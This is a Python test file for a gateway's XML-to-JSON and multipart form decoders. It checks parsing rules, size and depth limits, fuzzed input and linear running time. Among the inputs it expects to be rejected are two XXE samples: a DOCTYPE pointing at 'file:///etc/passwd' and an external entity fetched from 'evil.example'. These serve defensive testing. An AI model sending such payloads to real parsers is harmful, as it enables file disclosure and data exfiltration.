"""Bodies of other forms: XML without document types, multipart fields without files; never an exception, bounded."""

import json
from time import perf_counter

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.core.decoders import DEEPEST, MOST_ELEMENTS, MOST_PARTS, multipart_fields, multipart_json, xml_json

TYPE = "multipart/form-data; boundary=xYz"


def _read(document: str, **over: list[str]) -> object:
    found = xml_json(document.encode(), **over)
    return None if found is None else json.loads(found)


def test_an_element_with_elements_is_an_object_and_any_other_its_text() -> None:
    document = '<?xml version="1.0"?>\n<n>\n <kind>a</kind>\n <s><id type="x">7</id><note/></s>\n</n>'

    assert _read(document) == {"n": {"kind": "a", "s": {"id": "7", "note": ""}}}


def test_several_elements_of_one_name_are_a_list() -> None:
    assert _read("<n><i>1</i><i>2</i><i>3</i><j>4</j></n>") == {"n": {"i": ["1", "2", "3"], "j": "4"}}


def test_a_name_that_was_asked_for_is_a_list_however_many_there_are() -> None:
    assert _read("<n><i>1</i></n>", lists=["i"]) == {"n": {"i": ["1"]}}
    assert _read("<n><i><a>1</a></i><i><a>2</a></i></n>", lists=["i"]) == {"n": {"i": [{"a": "1"}, {"a": "2"}]}}


def test_a_prefix_of_a_namespace_is_left_out() -> None:
    assert _read('<s:Envelope xmlns:s="x"><s:Body><n>1</n></s:Body></s:Envelope>') == {"Envelope": {"Body": {"n": "1"}}}


def test_characters_are_read_as_they_are_meant() -> None:
    assert _read("<n>&lt;&amp;&#233;<![CDATA[<b>]]>é</n>") == {"n": "<&é<b>é"}


@pytest.mark.parametrize(
    "document",
    [
        b"", b"   ", b"{}", b"<n>", b"<n></m>", b"<n/><n/>", b"\xff\xfe<\x00n\x00/\x00>\x00", b"<n>\xff</n>",
        '<?xml version="1.0" encoding="ISO-8859-1"?><n>é</n>'.encode("latin-1"),
        b"<!DOCTYPE n><n/>",
        b'<!DOCTYPE n [<!ENTITY e "x">]><n>&e;</n>',
        b'<!DOCTYPE n SYSTEM "file:///etc/passwd"><n/>',
        b'<!DOCTYPE n [<!ENTITY % p SYSTEM "http://evil.example/x"> %p;]><n/>',
        b"<n>&undefined;</n>",
    ],
)  # fmt: skip
def test_what_is_no_document_or_has_a_type_is_not_read(document: bytes) -> None:
    assert xml_json(document) is None


def test_depth_and_number_of_elements_are_bounded() -> None:
    assert xml_json(b"<n>" * DEEPEST + b"</n>" * DEEPEST) is not None
    assert xml_json(b"<n>" * (DEEPEST + 1) + b"</n>" * (DEEPEST + 1)) is None
    assert xml_json(b"<r>" + b"<n/>" * (MOST_ELEMENTS - 1) + b"</r>") is not None
    assert xml_json(b"<r>" + b"<n/>" * MOST_ELEMENTS + b"</r>") is None


def _part(name: str, value: str, more: str = "") -> str:
    return f'--xYz\r\nContent-Disposition: form-data; name="{name}"{more}\r\n\r\n{value}\r\n'


def test_the_fields_of_a_form_are_read_and_its_files_are_not() -> None:
    body = _part("subject", "Hé\r\nllo") + _part("file", "x", '; filename="a.txt"') + _part("to", "a@b.example")

    assert multipart_fields((body + "--xYz--\r\n").encode(), TYPE) == {"subject": "Hé\r\nllo", "to": "a@b.example"}


def test_of_repeated_fields_the_first_counts() -> None:
    found = multipart_json(
        (_part("a", "1") + _part("a", "2") + "--xYz--").encode(), 'Multipart/Form-Data; Boundary="xYz"'
    )

    assert found == b'{"a":"1"}'


def test_what_stands_before_and_behind_the_parts_is_left_out() -> None:
    assert multipart_fields(("preamble\r\n" + _part("a", "1") + "--xYz--\r\nepilogue").encode(), TYPE) == {"a": "1"}


@pytest.mark.parametrize(
    "body, content_type",
    [
        (b"", TYPE), (b"--xYz--", "application/json"), (b"--xYz--", "multipart/form-data"),
        (_part("a", "1").encode(), TYPE),
        (_part("a", "1").encode() + b"--xYz--", "multipart/form-data; boundary=other"),
        (b'--xYz\r\nContent-Disposition: form-data; name="a"\r\n\r\n\xff\r\n--xYz--', TYPE),
        ((_part("a", "1") * (MOST_PARTS + 1) + "--xYz--").encode(), TYPE),
    ],
)  # fmt: skip
def test_what_is_no_such_form_is_not_read(body: bytes, content_type: str) -> None:
    assert multipart_fields(body, content_type) is None


def test_a_thousand_parts_are_read() -> None:
    assert multipart_fields((_part("a", "1") * MOST_PARTS + "--xYz--").encode(), TYPE) == {"a": "1"}


def test_a_part_without_a_name_is_none() -> None:
    heads = ("X: y\r\n", "", 'Content-Disposition: attachment; name="a"\r\n')
    body = "".join(f"--xYz\r\n{head}\r\n1\r\n" for head in heads) + "--xYz--"

    assert multipart_fields(body.encode(), TYPE) == {}


_PIECES = st.sampled_from(
    [
        b"<n>", b"</n>", b"<n a='1'/>", b"&amp;", b"&x;", b"<!DOCTYPE n>", b"<![CDATA[", b"]]>", b"--xYz", b"\r\n",
        b"\r\n\r\n", b'Content-Disposition: form-data; name="a"', b"--", b"filename=", b"\xff",
    ]
)  # fmt: skip


@settings(max_examples=200, deadline=None)
@given(st.lists(_PIECES | st.binary(max_size=5), max_size=30), st.text(max_size=30))
def test_no_bytes_raise(pieces: list[bytes], kind: str) -> None:
    body = b"".join(pieces)

    assert xml_json(body) is None or json.loads(xml_json(body) or b"")
    for content_type in (TYPE, "multipart/form-data; boundary=" + kind, kind):
        found = multipart_json(body, content_type)
        assert found is None or isinstance(json.loads(found), dict)


@pytest.mark.parametrize(
    "piece, kind",
    [
        (b"<a>", "xml"),
        (b"<a b=' ", "xml"),
        (b"<a>x&amp;", "xml"),
        (b"\r\n--xYz\r\n", TYPE),
        (b"\r\n--xY", TYPE),
        (b"; ", TYPE),
    ],
)
def test_time_grows_no_faster_than_the_body(piece: bytes, kind: str) -> None:
    """Sixteen times the text may take a hundred times as long and no more: squared it would be 256 times."""

    def seconds(count: int) -> float:
        body = piece * count
        best = 1e9
        for _ in range(3):
            began = perf_counter()
            _ = xml_json(body) if kind == "xml" else multipart_fields(body, kind)
            best = min(best, perf_counter() - began)
        return best

    assert seconds(160_000) < 100 * seconds(10_000) + 0.5
